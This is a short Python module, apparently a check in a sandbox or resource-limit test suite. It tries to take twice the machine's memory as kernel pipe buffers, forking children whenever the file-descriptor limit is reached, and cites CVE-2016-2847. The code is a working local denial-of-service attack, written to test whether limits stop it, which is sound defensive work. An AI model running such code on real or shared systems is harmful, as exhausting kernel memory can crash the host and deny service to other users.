"""Takes the kernel's memory in pipes."""

import errno
import fcntl
import os

from lib import in_a_child

CLASS = "resources"
INCIDENT = "CVE-2016-2847: pipe buffers were not limited per user"
BLOCKED_BY = "memory limit, or as many pipes as all processes may have"


def attempt(facts):
    take(facts["memory"] * 2)
    return f"{facts['memory'] * 2 >> 20} MiB in pipes"


def take(wanted):
    data = bytes(1 << 20)
    while wanted > 0:
        try:
            _, writer = os.pipe2(os.O_NONBLOCK)
        except OSError as error:
            if error.errno != errno.EMFILE:
                raise
            in_a_child(lambda: take(wanted))
            return
        try:
            fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, len(data))
        except PermissionError:
            pass  # The user has had all large ones. Small ones go on for ever.
        wanted -= os.write(writer, data)
